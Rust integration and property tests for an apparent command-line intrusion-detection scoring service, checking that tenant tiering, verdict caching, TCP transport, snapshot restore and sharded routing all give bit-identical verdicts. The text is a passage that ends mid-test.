/// i8 tier: the rebuilt graph answers exactly like the never-demoted
/// dedicated engine, before and after appends.
#[test]
fn demote_promote_is_bit_identical_to_dedicated() {
    let config = hnsw_i8_config(64 << 20);
    let svc = TenantService::new(config).expect("valid config");
    let (view, labels) = tenant_view(11, 24);
    let queries = query_view(11, 7);
    svc.create_tenant_from_view(TenantId(1), &view, &labels)
        .expect("create succeeds");
    let mirror = dedicated(&config, &view, &labels);

    let hot = svc.score_view(TenantId(1), &queries).expect("hot score");
    assert_eq!(hot, score_dedicated(&mirror, &queries));

    assert!(svc.demote(TenantId(1)).expect("demote succeeds"));
    assert!(!svc.is_hot(TenantId(1)).unwrap());
    let promoted = svc.score_view(TenantId(1), &queries).expect("cold score");
    assert_eq!(promoted, hot, "promotion changed verdict bytes");
    assert!(svc.is_hot(TenantId(1)).unwrap());
    assert_eq!(svc.stats().promotions, 1);

    // Appends land in the promoted engine and survive another
    // demote/promote round bit-exactly.
    let (extra, extra_labels) = tenant_view(12, 5);
    svc.append_view(TenantId(1), &extra, &extra_labels)
        .expect("append succeeds");
    let mut mirror = mirror;
    mirror
        .append_each(&extra_labels, |_| extra.clone())
        .expect("mirror append succeeds");
    assert!(svc.demote(TenantId(1)).unwrap());
    let after = svc
        .score_view(TenantId(1), &queries)
        .expect("score after append");
    assert_eq!(after, score_dedicated(&mirror, &queries));
    assert_eq!(svc.epoch_of(TenantId(1)).unwrap(), 1);
}

/// The demoted frame is the compact encoding: dropping the graph must
/// actually shrink the accounted bytes, or the cold tier is not a
/// tier.
#[test]
fn demotion_shrinks_accounted_bytes() {
    let svc = TenantService::new(hnsw_i8_config(64 << 20)).expect("valid config");
    let (view, labels) = tenant_view(21, 64);
    svc.create_tenant_from_view(TenantId(9), &view, &labels)
        .expect("create succeeds");
    let hot_bytes = svc.accounted_bytes();
    assert!(svc.demote(TenantId(9)).unwrap());
    let cold_bytes = svc.accounted_bytes();
    assert!(
        cold_bytes < hot_bytes,
        "cold frame ({cold_bytes} B) not smaller than hot state ({hot_bytes} B)"
    );
}

/// A budget below the hot working set forces LRU evictions: the
/// least-recently-touched tenants go cold, the accounted total
/// converges under the budget (or to the all-cold floor), and every
/// verdict stays bit-identical to its dedicated comparator.
#[test]
fn lru_eviction_under_budget_preserves_verdicts() {
    let config = hnsw_i8_config(1); // nothing fits: every touch evicts the rest
    let svc = TenantService::new(config).expect("valid config");
    let n_tenants = 6u64;
    let mirrors: Vec<FittedEngine> = (0..n_tenants)
        .map(|t| {
            let (view, labels) = tenant_view(100 + t, 16);
            svc.create_tenant_from_view(TenantId(t), &view, &labels)
                .expect("create succeeds");
            dedicated(&config, &view, &labels)
        })
        .collect();
    let queries = query_view(3, 5);
    for round in 0..3 {
        for t in 0..n_tenants {
            let got = svc
                .score_view(TenantId(t), &queries)
                .expect("score succeeds");
            assert_eq!(
                got,
                score_dedicated(&mirrors[t as usize], &queries),
                "tenant {t} diverged in round {round}"
            );
        }
    }
    let stats = svc.stats();
    assert!(stats.evictions > 0, "a 1-byte budget must evict");
    assert!(
        stats.hot <= 1,
        "budget of 1 byte cannot keep {} tenants hot",
        stats.hot
    );
}

/// Unknown and duplicate tenants are typed errors, not panics or
/// silent cross-tenant traffic.
#[test]
fn unknown_and_duplicate_tenants_are_typed() {
    let svc = TenantService::new(TenantConfig::default()).expect("valid config");
    let (view, labels) = tenant_view(31, 8);
    assert!(matches!(
        svc.score_view(TenantId(5), &view),
        Err(TenantError::Unknown(5))
    ));
    svc.create_tenant_from_view(TenantId(5), &view, &labels)
        .expect("create succeeds");
    assert!(matches!(
        svc.create_tenant_from_view(TenantId(5), &view, &labels),
        Err(TenantError::Duplicate(5))
    ));
    assert!(matches!(
        svc.score_view(TenantId(6), &view),
        Err(TenantError::Unknown(6))
    ));
}

/// Snapshot → restore rebuilds the whole map **cold**: zero
/// construction passes until a tenant is actually touched, and the
/// first touch replays the identical verdicts.
#[test]
fn restore_is_lazy_and_bit_identical() {
    let config = hnsw_i8_config(64 << 20);
    let svc = TenantService::new(config).expect("valid config");
    let queries = query_view(17, 6);
    let mut want = Vec::new();
    for t in 0..4u64 {
        let (view, labels) = tenant_view(200 + t, 20);
        svc.create_tenant_from_view(TenantId(t), &view, &labels)
            .expect("create succeeds");
        want.push(
            svc.score_view(TenantId(t), &queries)
                .expect("score succeeds"),
        );
    }
    // Append to one tenant so epochs differ across the map.
    let (extra, extra_labels) = tenant_view(300, 4);
    svc.append_view(TenantId(2), &extra, &extra_labels)
        .expect("append succeeds");
    want[2] = svc
        .score_view(TenantId(2), &queries)
        .expect("score succeeds");

    let bytes = svc.snapshot().expect("snapshot succeeds").to_bytes();
    let snapshot = serve::TenantMapSnapshot::from_bytes(&bytes).expect("frame decodes");
    assert_eq!(snapshot.len(), 4);

    let before = index::construction_passes();
    let restored = TenantService::restore(snapshot, None, config).expect("restore succeeds");
    assert_eq!(
        index::construction_passes(),
        before,
        "restore must not build anything"
    );
    let stats = restored.stats();
    assert_eq!(
        (stats.tenants, stats.hot),
        (4, 0),
        "restored tenants start cold"
    );
    assert_eq!(restored.epoch_of(TenantId(2)).unwrap(), 1, "epochs survive");

    for t in 0..4u64 {
        let got = restored
            .score_view(TenantId(t), &queries)
            .expect("restored score succeeds");
        assert_eq!(got, want[t as usize], "tenant {t} diverged across restore");
    }
    // Map snapshots keep full-fidelity frames, so even the lazy
    // first-touch promotion *adopts* the saved graphs instead of
    // rebuilding them.
    assert_eq!(
        index::construction_passes(),
        before,
        "promotion from a snapshot frame must adopt, not rebuild"
    );
    // A *demoted* tenant's frame dropped its graphs, so promoting it
    // does pay the (deterministic) rebuild.
    restored.demote(TenantId(0)).expect("demote succeeds");
    let got = restored
        .score_view(TenantId(0), &queries)
        .expect("rebuilt score succeeds");
    assert_eq!(got, want[0], "graph-dropped rebuild diverged");
    assert!(
        index::construction_passes() > before,
        "graph-dropped promotion pays the rebuild"
    );

    // Corrupt map frames are typed errors, never panics.
    assert!(serve::TenantMapSnapshot::from_bytes(&bytes[..bytes.len() - 1]).is_err());
    assert!(serve::TenantMapSnapshot::from_bytes(b"XXXX").is_err());
}

proptest! {
    /// Any interleaving of score / append / demote under an
    /// arbitrary budget leaves every tenant's verdicts bit-identical
    /// to its dedicated single-tenant comparator, and the accounted
    /// total either fits the budget or nothing is left to shed.
    #[test]
    fn tiering_interleavings_are_bit_identical(
        seed in 0u64..64,
        budget_kb in 1usize..64,
    ) {
        let config = hnsw_i8_config(budget_kb << 10);
        let svc = TenantService::new(config).expect("valid config");
        let mut mirrors = Vec::new();
        for t in 0..3u64 {
            let (view, labels) = tenant_view(400 + t, 12);
            svc.create_tenant_from_view(TenantId(t), &view, &labels)
                .expect("create succeeds");
            mirrors.push(dedicated(&config, &view, &labels));
        }
        let mut rng = StdRng::seed_from_u64(seed);
        for step in 0..12 {
            let t = rng.gen_range(0u64..3);
            match rng.gen_range(0u8..4) {
                0 | 1 => {
                    let queries = query_view(seed * 100 + step, 4);
                    let got = svc.score_view(TenantId(t), &queries).expect("score succeeds");
                    prop_assert_eq!(got, score_dedicated(&mirrors[t as usize], &queries));
                }
                2 => {
                    let (extra, labels) = tenant_view(500 + seed * 100 + step, 3);
                    svc.append_view(TenantId(t), &extra, &labels).expect("append succeeds");
                    mirrors[t as usize]
                        .append_each(&labels, |_| extra.clone())
                        .expect("mirror append succeeds");
                }
                _ => {
                    svc.demote(TenantId(t)).expect("demote succeeds");
                }
            }
            let stats = svc.stats();
            prop_assert!(
                stats.accounted_bytes <= stats.budget || stats.hot == 0,
                "over budget with {} hot tenants ({} B > {} B)",
                stats.hot, stats.accounted_bytes, stats.budget
            );
        }
    }
}

// --- the pipeline-backed front-end path ----------------------------

struct Fixture {
    pipeline: IdsPipeline,
    lines: Vec<String>,
}

fn fixture() -> &'static Fixture {
    static FIXTURE: OnceLock<Fixture> = OnceLock::new();
    FIXTURE.get_or_init(|| {
        let mut config = PipelineConfig::fast();
        config.train_size = 200;
        config.test_size = 100;
        let mut rng = StdRng::seed_from_u64(7117);
        let dataset = config.generate_dataset(&mut rng);
        let pipeline = IdsPipeline::pretrain(&config, &dataset, &mut rng);
        Fixture {
            lines: dataset.train.iter().map(|r| r.line.clone()).collect(),
            pipeline,
        }
    })
}

fn front_with_tenants(
    fx: &'static Fixture,
    cache: bool,
) -> (Frontend, std::sync::Arc<TenantService>) {
    let svc = std::sync::Arc::new(
        TenantService::with_pipeline(fx.pipeline.clone(), TenantConfig::default())
            .expect("valid config"),
    );
    // Two tenants fitted over *disjoint* slices of the corpus, then
    // queried with the *same* lines: the only way their verdicts can
    // agree is a cross-tenant leak.
    let labels_a: Vec<bool> = (0..40).map(|i| i % 4 == 0).collect();
    let labels_b: Vec<bool> = (0..40).map(|i| i % 5 == 0).collect();
    svc.create_tenant(TenantId(7), &fx.lines[..40], &labels_a)
        .expect("tenant 7 fits");
    svc.create_tenant(TenantId(8), &fx.lines[40..80], &labels_b)
        .expect("tenant 8 fits");

    let global = dedicated_from_lines(fx, &fx.lines[..40], &labels_a);
    let serve = ServeConfig {
        queue_capacity: 64,
        max_batch: 16,
        batch_window: Duration::from_micros(200),
        workers: 1,
    };
    let mut front = Frontend::spawn(fx.pipeline.clone(), global, 1, serve).expect("spawn succeeds");
    if cache {
        front = front.with_cache(256).expect("cache attaches");
    }
    (front.with_tenants(svc.clone()), svc)
}

fn dedicated_from_lines(fx: &Fixture, lines: &[String], labels: &[bool]) -> FittedEngine {
    use cmdline_ids::embed::Pooling;
    use cmdline_ids::engine::EmbeddingStore;
    let store = EmbeddingStore::new(&fx.pipeline);
    let view = store.view_of(lines, Pooling::Mean);
    let mut detectors: Vec<Box<dyn Detector>> = vec![
        Box::new(RetrievalMethod::new(1)),
        Box::new(VanillaKnnMethod::new(3)),
    ];
    for det in &mut detectors {
        det.fit(&view, labels).expect("fit succeeds");
    }
    FittedEngine::from_detectors(detectors)
}

/// The satellite pin: two tenants submit byte-identical raw lines
/// through the cached front-end, and each gets its own partition's
/// verdicts — cache-on is bit-identical to cache-off for both, so the
/// tenant-keyed cache can never cross-serve.
#[test]
fn identical_lines_never_cross_serve_between_tenants() {
    let fx = fixture();
    let queries: Vec<String> = fx.lines[80..92].to_vec();
    let (cached, _svc) = front_with_tenants(fx, true);
    let (uncached, _svc2) = front_with_tenants(fx, false);

    // Repeat so the second round is served from the cache when on.
    let mut first = Vec::new();
    for round in 0..2 {
        let a_on = cached
            .score_tenant(TenantId(7), &queries)
            .expect("tenant 7 scores");
        let b_on = cached
            .score_tenant(TenantId(8), &queries)
            .expect("tenant 8 scores");
        let a_off = uncached
            .score_tenant(TenantId(7), &queries)
            .expect("tenant 7 scores");
        let b_off = uncached
            .score_tenant(TenantId(8), &queries)
            .expect("tenant 8 scores");
        assert_eq!(
            a_on, a_off,
            "cache changed tenant 7 verdicts (round {round})"
        );
        assert_eq!(
            b_on, b_off,
            "cache changed tenant 8 verdicts (round {round})"
        );
        assert_ne!(
            a_on, b_on,
            "disjoint baselines produced identical verdicts — partitions leak"
        );
        if round == 0 {
            first = a_on;
        } else {
            assert_eq!(a_on, first, "cached round diverged from fresh round");
        }
    }

    // An append to tenant 7 invalidates *its* cached verdicts (epoch
    // bump) without touching tenant 8's.
    let labels = vec![false, true];
    cached
        .append_tenant(TenantId(7), &fx.lines[92..94], &labels)
        .expect("append succeeds");
    uncached
        .append_tenant(TenantId(7), &fx.lines[92..94], &labels)
        .expect("append succeeds");
    let a_on = cached
        .score_tenant(TenantId(7), &queries)
        .expect("tenant 7 rescored");
    let a_off = uncached
        .score_tenant(TenantId(7), &queries)
        .expect("tenant 7 rescored");
    assert_eq!(
        a_on, a_off,
        "post-append cache served stale tenant verdicts"
    );
    let b_on = cached
        .score_tenant(TenantId(8), &queries)
        .expect("tenant 8 rescored");
    let b_off = uncached
        .score_tenant(TenantId(8), &queries)
        .expect("tenant 8 rescored");
    assert_eq!(b_on, b_off, "tenant 8 disturbed by tenant 7's append");

    cached.shutdown();
    uncached.shutdown();
}
