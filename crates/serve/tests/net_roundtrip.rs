//! End-to-end tests for the TCP front-end: wire verdicts are
//! bit-identical to the in-process path, pipelined requests multiplex
//! one socket, append/snapshot/stats round-trip, config limits are
//! enforced with typed errors, and shutdown is clean.

use cmdline_ids::embed::Pooling;
use cmdline_ids::engine::{EmbeddingStore, FittedEngine, ScoringEngine};
use cmdline_ids::pipeline::{IdsPipeline, PipelineConfig};
use corpus::dedup_records;
use ids_rules::RuleIds;
use rand::rngs::StdRng;
use rand::SeedableRng;
use serve::wire::WireErrorKind;
use serve::{Frontend, NetClient, NetConfig, NetError, ServeConfig, ServiceSnapshot};
use std::net::TcpListener;
use std::sync::OnceLock;
use std::time::Duration;

use anomaly::{RetrievalMethod, VanillaKnnMethod};

struct Fixture {
    pipeline: IdsPipeline,
    train_lines: Vec<String>,
    labels: Vec<bool>,
    test_lines: Vec<String>,
}

fn fixture() -> &'static Fixture {
    static FIXTURE: OnceLock<Fixture> = OnceLock::new();
    FIXTURE.get_or_init(|| {
        let mut config = PipelineConfig::fast();
        config.train_size = 500;
        config.test_size = 250;
        config.attack_prob = 0.25;
        let mut rng = StdRng::seed_from_u64(9001);
        let dataset = config.generate_dataset(&mut rng);
        let pipeline = IdsPipeline::pretrain(&config, &dataset, &mut rng);
        let ids = RuleIds::with_default_rules();
        let labels: Vec<bool> = dataset
            .train
            .iter()
            .map(|r| ids.is_alert(&r.line))
            .collect();
        Fixture {
            pipeline,
            train_lines: dataset.train.iter().map(|r| r.line.clone()).collect(),
            labels,
            test_lines: dedup_records(&dataset.test)
                .iter()
                .map(|r| r.line.clone())
                .collect(),
        }
    })
}

fn fitted(fx: &Fixture) -> FittedEngine {
    let store = EmbeddingStore::new(&fx.pipeline);
    let train = store.view_of(&fx.train_lines, Pooling::Mean);
    ScoringEngine::new()
        .register(Box::new(RetrievalMethod::new(1)))
        .register(Box::new(VanillaKnnMethod::new(3)))
        .fit(&train, &fx.labels)
        .expect("fit succeeds")
}

fn front(fx: &Fixture) -> Frontend {
    Frontend::spawn(
        fx.pipeline.clone(),
        fitted(fx),
        1,
        ServeConfig {
            queue_capacity: 64,
            max_batch: 16,
            batch_window: Duration::from_micros(200),
            workers: 2,
        },
    )
    .expect("spawn succeeds")
}

/// Spawns a server on an ephemeral loopback port.
fn serve_on_ephemeral(front: Frontend, config: NetConfig) -> serve::NetServer {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind ephemeral");
    serve::NetServer::spawn_on(front, listener, config).expect("spawn_on succeeds")
}

/// The heart of the tentpole contract: verdicts over the wire are
/// bit-identical to the in-process client, with and without the
/// verdict cache, including after an append bumps the epoch — plus
/// snapshot/stats round-trips on the same connection.
#[test]
fn wire_verdicts_match_in_process_bit_for_bit() {
    let fx = fixture();
    let server = serve_on_ephemeral(
        front(fx),
        NetConfig {
            cache: Some(128),
            ..NetConfig::default()
        },
    );
    let client = NetClient::connect(server.local_addr()).expect("connect");
    assert_eq!(client.method_names(), server.front().method_names());

    let lines: Vec<String> = fx.test_lines[..40].to_vec();
    // Two passes: the second is served (partly) from the cache.
    for pass in 0..2 {
        let wire = client.score_batch(&lines).expect("score over wire");
        let local = server.front().client().score_batch(&lines).expect("local");
        assert_eq!(
            wire, local,
            "pass {pass}: wire verdicts must be bit-identical"
        );
    }
    let stats = client.stats().expect("stats over wire");
    assert!(stats.cache_hits > 0, "second pass must hit the cache");

    // Append over the wire, then re-score: the epoch bump must be
    // visible and the fresh verdicts must match the local path.
    let absorbed = client
        .append(&lines[..2], &[true, false])
        .expect("append over wire");
    assert!(absorbed > 0);
    let stats = client.stats().expect("stats over wire");
    assert_eq!(stats.epoch, 1, "append bumps the verdict-cache epoch");
    let wire = client.score_batch(&lines).expect("score after append");
    let local = server.front().client().score_batch(&lines).expect("local");
    assert_eq!(
        wire, local,
        "post-append wire verdicts must be bit-identical"
    );

    // Snapshot over the wire decodes into a restorable frame.
    let (frame, skipped) = client.snapshot_bytes().expect("snapshot over wire");
    assert!(skipped.is_empty(), "both methods are capturable");
    let snapshot = ServiceSnapshot::from_bytes(&frame).expect("frame decodes");
    assert_eq!(snapshot.len(), 2);

    server.shutdown().shutdown();
}

/// Many threads sharing one client pipeline over one socket; every
/// response lands at its caller (correlation ids demux correctly).
#[test]
fn pipelined_requests_share_one_socket() {
    let fx = fixture();
    let server = serve_on_ephemeral(front(fx), NetConfig::default());
    let client = NetClient::connect(server.local_addr()).expect("connect");
    let expected: Vec<Vec<f32>> = server
        .front()
        .client()
        .score_batch(&fx.test_lines[..32])
        .expect("local");

    let workers: Vec<_> = (0..8)
        .map(|w| {
            let client = client.clone();
            let lines = fx.test_lines[..32].to_vec();
            let expected = expected.clone();
            std::thread::spawn(move || {
                for i in 0..16 {
                    let pick = (w * 7 + i * 3) % lines.len();
                    let verdict = client.score_line(&lines[pick]).expect("score");
                    assert_eq!(verdict, expected[pick], "response routed to wrong caller");
                }
            })
        })
        .collect();
    for handle in workers {
        handle.join().expect("worker panics propagate");
    }
    server.shutdown().shutdown();
}

/// Over-limit connections receive a typed `Busy` error, not a hang.
#[test]
fn connection_limit_answers_busy() {
    let fx = fixture();
    let server = serve_on_ephemeral(
        front(fx),
        NetConfig {
            max_connections: 1,
            ..NetConfig::default()
        },
    );
    let first = NetClient::connect(server.local_addr()).expect("first connection");
    // The refused connection may observe the Busy frame either during
    // the connect handshake or on its first call.
    match NetClient::connect(server.local_addr()) {
        Err(NetError::Remote { kind, .. }) => assert_eq!(kind, WireErrorKind::Busy),
        Err(NetError::Closed) | Err(NetError::Io(_)) => {}
        Ok(_) => panic!("second connection should have been refused"),
        Err(other) => panic!("unexpected error: {other}"),
    }
    // The accepted connection keeps working.
    assert!(first.score_line(&fx.test_lines[0]).is_ok());
    server.shutdown().shutdown();
}

/// A client `Shutdown` request unblocks the server's wait and is
/// acknowledged before teardown.
#[test]
fn client_shutdown_request_unblocks_server() {
    let fx = fixture();
    let server = serve_on_ephemeral(front(fx), NetConfig::default());
    let client = NetClient::connect(server.local_addr()).expect("connect");
    client.shutdown_server().expect("acknowledged");
    server.wait_for_shutdown_request(); // must return promptly
    server.shutdown().shutdown();
    assert!(
        client.score_line(&fx.test_lines[0]).is_err(),
        "the torn-down server must not answer"
    );
}
