//! The shard-aware serving stack's keystone claims, end to end:
//!
//! * a [`ShardRouter`] over exact shards returns verdicts
//!   **bit-identical** to an unsharded [`ScoringService`] — scatter,
//!   per-shard top-k, k-way merge and all — for every method, with
//!   resident (non-partitioned) detectors interleaved in registration
//!   order;
//! * live supervision routed to owning shards keeps that parity;
//! * the router's snapshot (manifest + N shard frames) cold-starts a
//!   new router with **zero** index construction passes and identical
//!   verdicts.

use cmdline_ids::embed::Pooling;
use cmdline_ids::engine::{EmbeddingStore, FittedEngine, IndexConfig, ScoringEngine};
use cmdline_ids::pipeline::{IdsPipeline, PipelineConfig};
use corpus::dedup_records;
use ids_rules::RuleIds;
use rand::rngs::StdRng;
use rand::SeedableRng;
use serve::{RouterConfig, ScoringService, ServeConfig, ServeError, ShardRouter};

use anomaly::{PcaMethod, RetrievalMethod, VanillaKnnMethod};

const SHARDS: usize = 3;

fn fixture() -> (IdsPipeline, Vec<String>, Vec<bool>, Vec<String>) {
    let mut config = PipelineConfig::fast();
    config.train_size = 600;
    config.test_size = 250;
    config.attack_prob = 0.25;
    let mut rng = StdRng::seed_from_u64(777);
    let dataset = config.generate_dataset(&mut rng);
    let pipeline = IdsPipeline::pretrain(&config, &dataset, &mut rng);
    let ids = RuleIds::with_default_rules();
    let labels: Vec<bool> = dataset
        .train
        .iter()
        .map(|r| ids.is_alert(&r.line))
        .collect();
    let train: Vec<String> = dataset.train.iter().map(|r| r.line.clone()).collect();
    let test: Vec<String> = dedup_records(&dataset.test)
        .iter()
        .map(|r| r.line.clone())
        .collect();
    (pipeline, train, labels, test)
}

/// Fits the three-method set (two partitionable neighbour methods
/// around a resident PCA, so plan-order interleaving is exercised)
/// over the given index config.
fn fit(
    pipeline: &IdsPipeline,
    train_lines: &[String],
    labels: &[bool],
    index: IndexConfig,
) -> FittedEngine {
    let store = EmbeddingStore::new(pipeline);
    let refs: Vec<&str> = train_lines.iter().map(String::as_str).collect();
    let train = store.view(&refs, Pooling::Mean);
    ScoringEngine::new()
        .with_index_config(index)
        .register(Box::new(RetrievalMethod::new(2)))
        .register(Box::new(PcaMethod::new(0.95)))
        .register(Box::new(VanillaKnnMethod::new(3)))
        .fit(&train, labels)
        .expect("detector set fits")
}

#[test]
fn sharded_router_is_bit_identical_to_the_unsharded_service() {
    let (pipeline, train_lines, labels, test_lines) = fixture();

    // Reference: the single resident service over unsharded exact.
    let service = ScoringService::spawn(
        pipeline.clone(),
        fit(&pipeline, &train_lines, &labels, IndexConfig::Exact),
        ServeConfig::default(),
    )
    .expect("reference service spawns");
    let want: Vec<Vec<f32>> = service
        .score_batch(&test_lines)
        .expect("reference service scores");

    // Under test: the shard router over a 3-way exact partition.
    let sharded = fit(
        &pipeline,
        &train_lines,
        &labels,
        IndexConfig::Exact.with_shards(SHARDS),
    );
    let router = ShardRouter::spawn(pipeline.clone(), sharded, RouterConfig::with_shards(SHARDS))
        .expect("router spawns");
    assert_eq!(router.method_names(), ["retrieval", "pca", "vanilla-knn"]);

    // The partition actually spread exemplars over shards.
    let counts = router
        .shard_row_counts("vanilla-knn")
        .expect("vanilla-knn is partitioned");
    assert_eq!(counts.len(), SHARDS);
    assert_eq!(counts.iter().sum::<usize>(), train_lines.len());
    assert!(
        counts.iter().filter(|&&c| c > 0).count() >= 2,
        "hash partitioner left everything on one shard: {counts:?}"
    );
    assert!(router.shard_row_counts("pca").is_none(), "pca is resident");

    let got = router.score_batch(&test_lines).expect("router scores");
    assert_eq!(got, want, "scatter/merge verdicts must be bit-identical");

    // Live supervision keeps parity: same batch into both, rescore.
    let burst: Vec<String> = test_lines.iter().take(12).cloned().collect();
    let burst_labels = vec![
        true, false, true, true, false, false, true, false, false, true, false, true,
    ];
    let absorbed_service = service
        .append(&burst, &burst_labels)
        .expect("service append");
    let absorbed_router = router.append(&burst, &burst_labels).expect("router append");
    assert_eq!(absorbed_router, absorbed_service);
    let want_after: Vec<Vec<f32>> = service.score_batch(&test_lines).expect("service rescores");
    let got_after = router.score_batch(&test_lines).expect("router rescores");
    assert_eq!(got_after, want_after, "parity must survive routed appends");
    assert_ne!(want_after, want, "the appended exemplars must matter");

    // The stats counters move like a service's.
    let stats = router.stats();
    assert!(stats.lines >= 2 * test_lines.len());
    assert!(stats.batches >= 2);

    service.shutdown();
    router.shutdown();
}

#[test]
fn router_snapshot_cold_starts_all_shards_without_construction() {
    let (pipeline, train_lines, labels, test_lines) = fixture();
    // HNSW shards: the backend where skipping construction is the
    // whole point of persistence.
    let engine = fit(
        &pipeline,
        &train_lines,
        &labels,
        IndexConfig::hnsw().with_shards(SHARDS),
    );
    let router = ShardRouter::spawn(pipeline.clone(), engine, RouterConfig::with_shards(SHARDS))
        .expect("router spawns");
    let want: Vec<Vec<f32>> = test_lines
        .iter()
        .take(40)
        .map(|l| router.score_line(l).expect("warm router scores"))
        .collect();

    let (snapshot, skipped) = router.snapshot().expect("no appends in flight");
    assert_eq!(snapshot.len(), 2, "both neighbour methods captured");
    assert_eq!(skipped, ["pca"], "resident pca refits from data");
    let bytes = snapshot.to_bytes();
    router.shutdown();

    // Cold start: decode → restore (adopting every shard graph) →
    // re-split across fresh pools. Not a single construction pass.
    let passes = index::construction_passes();
    let restored = serve::ServiceSnapshot::from_bytes(&bytes)
        .expect("snapshot decodes")
        .restore();
    let cold = ShardRouter::spawn(pipeline, restored, RouterConfig::with_shards(SHARDS))
        .expect("cold router spawns");
    assert_eq!(
        index::construction_passes(),
        passes,
        "cold start must adopt all {SHARDS} shard graphs, not rebuild them"
    );

    // PCA was skipped, so the cold verdict vectors are the two
    // neighbour methods — in the original registration order.
    assert_eq!(cold.method_names(), ["retrieval", "vanilla-knn"]);
    for (line, want_scores) in test_lines.iter().take(40).zip(&want) {
        let got = cold.score_line(line).expect("cold router scores");
        assert_eq!(got[0], want_scores[0], "retrieval drifted for {line:?}");
        assert_eq!(got[1], want_scores[2], "vanilla-knn drifted for {line:?}");
    }

    // The restored partition keeps absorbing supervision.
    let absorbed = cold
        .append(&test_lines[..4], &[true, true, false, true])
        .expect("cold append");
    assert_eq!(absorbed, 2);
    cold.shutdown();
}

#[test]
fn quantized_shards_serve_identically_to_the_quantized_unsharded_service() {
    // The quantization knob threaded through the serving stack: an
    // i8-sharded router must reproduce the i8 unsharded service bit
    // for bit (both score against the same quantized codes and
    // f32-norm cache; scatter/merge adds nothing), and routed appends
    // must quantize into the owning shard exactly as the unsharded
    // index would.
    let (pipeline, train_lines, labels, test_lines) = fixture();
    let quant = cmdline_ids::engine::Quantization::I8;
    let service = ScoringService::spawn(
        pipeline.clone(),
        fit(
            &pipeline,
            &train_lines,
            &labels,
            IndexConfig::Exact.with_quant(quant),
        ),
        ServeConfig::default(),
    )
    .expect("quantized reference service spawns");
    let want: Vec<Vec<f32>> = service.score_batch(&test_lines).expect("service scores");

    let sharded = fit(
        &pipeline,
        &train_lines,
        &labels,
        IndexConfig::Exact.with_quant(quant).with_shards(SHARDS),
    );
    let router = ShardRouter::spawn(pipeline, sharded, RouterConfig::with_shards(SHARDS))
        .expect("quantized router spawns");
    let got = router.score_batch(&test_lines).expect("router scores");
    assert_eq!(got, want, "i8 scatter/merge verdicts must be bit-identical");

    // Appends quantize on insert along both paths; parity must hold
    // afterwards too.
    let burst: Vec<String> = test_lines.iter().take(8).cloned().collect();
    let burst_labels = vec![true, false, true, false, true, true, false, true];
    service
        .append(&burst, &burst_labels)
        .expect("service append");
    router.append(&burst, &burst_labels).expect("router append");
    let want_after: Vec<Vec<f32>> = service.score_batch(&test_lines).expect("service rescores");
    let got_after = router.score_batch(&test_lines).expect("router rescores");
    assert_eq!(
        got_after, want_after,
        "parity must survive quantized appends"
    );

    // The quantized partition snapshots and restores with its format —
    // and the frame says so up front: quantized detector payloads bump
    // the service-snapshot version to 2, so a pre-quantization reader
    // fails with a typed version error instead of a mid-payload tag
    // error.
    let (snapshot, _) = router.snapshot().expect("no appends in flight");
    let bytes = snapshot.to_bytes();
    assert_eq!(
        u32::from_le_bytes(bytes[4..8].try_into().unwrap()),
        2,
        "quantized payloads must bump the service frame version"
    );
    let restored = serve::ServiceSnapshot::from_bytes(&bytes)
        .expect("quantized snapshot decodes")
        .restore();
    for det in restored.detectors() {
        let state = cmdline_ids::engine::DetectorState::capture(det.as_ref())
            .expect("neighbour methods capture");
        let split = state.split_shards().expect("still sharded");
        assert_eq!(split.quant, quant, "{}", det.name());
    }
    service.shutdown();
    router.shutdown();
}

#[test]
fn live_reshard_is_bit_identical_to_stop_the_world() {
    const NEW_SHARDS: usize = 5;
    const PRODUCERS: usize = 4;
    let (pipeline, train_lines, labels, test_lines) = fixture();
    let burst: Vec<String> = test_lines.iter().rev().take(10).cloned().collect();
    let burst_labels = vec![
        true, false, false, true, true, false, true, false, true, false,
    ];

    // Stop-the-world comparator: quiesce, split 3 → 5, then append.
    let quiet = ShardRouter::spawn(
        pipeline.clone(),
        fit(
            &pipeline,
            &train_lines,
            &labels,
            IndexConfig::Exact.with_shards(SHARDS),
        ),
        RouterConfig::with_shards(SHARDS),
    )
    .expect("comparator router spawns");
    assert_eq!(quiet.shards(), SHARDS);
    quiet.reshard(NEW_SHARDS).expect("quiet split");
    assert_eq!(quiet.shards(), NEW_SHARDS);
    quiet.append(&burst, &burst_labels).expect("quiet append");
    let want: Vec<Vec<f32>> = quiet.score_batch(&test_lines).expect("comparator scores");
    quiet.shutdown();

    // Under test: the same split races live score traffic and an
    // append submitted mid-split (appends serialize with the split on
    // the ownership lock; whichever order they land in, exact
    // backends are partition-invariant and global exemplar ids are
    // dense by arrival, so the converged state is identical).
    let live = ShardRouter::spawn(
        pipeline.clone(),
        fit(
            &pipeline,
            &train_lines,
            &labels,
            IndexConfig::Exact.with_shards(SHARDS),
        ),
        RouterConfig::with_shards(SHARDS),
    )
    .expect("live router spawns");
    let barrier = std::sync::Barrier::new(PRODUCERS + 2);
    std::thread::scope(|scope| {
        let mut handles = Vec::new();
        for p in 0..PRODUCERS {
            let client = live.client();
            let (barrier, test_lines) = (&barrier, &test_lines);
            handles.push(scope.spawn(move || {
                let mine: Vec<String> = test_lines
                    .iter()
                    .skip(p)
                    .step_by(PRODUCERS)
                    .take(40)
                    .cloned()
                    .collect();
                barrier.wait();
                let mut seen = 0usize;
                for chunk in mine.chunks(4) {
                    let replies = client.score_batch(chunk).expect("router alive mid-split");
                    assert_eq!(replies.len(), chunk.len(), "one reply per line");
                    for verdict in &replies {
                        assert_eq!(verdict.len(), 3, "every method answers mid-split");
                    }
                    seen += replies.len();
                }
                seen
            }));
        }
        let appender = scope.spawn(|| {
            barrier.wait();
            live.append(&burst, &burst_labels)
                .expect("append lands mid-split")
        });
        barrier.wait();
        live.reshard(NEW_SHARDS).expect("live split");
        let mut total = 0usize;
        for handle in handles {
            total += handle.join().expect("producer survived the split");
        }
        let expected: usize = (0..PRODUCERS)
            .map(|p| {
                test_lines
                    .iter()
                    .skip(p)
                    .step_by(PRODUCERS)
                    .take(40)
                    .count()
            })
            .sum();
        assert_eq!(total, expected, "a line was dropped or double-scored");
        assert_eq!(appender.join().expect("appender survived"), 2);
    });
    assert_eq!(live.shards(), NEW_SHARDS);

    // The new partition actually owns every exemplar — baseline and
    // the mid-split burst — across 5 shards.
    let counts = live
        .shard_row_counts("vanilla-knn")
        .expect("vanilla-knn is partitioned");
    assert_eq!(counts.len(), NEW_SHARDS);
    assert_eq!(
        counts.iter().sum::<usize>(),
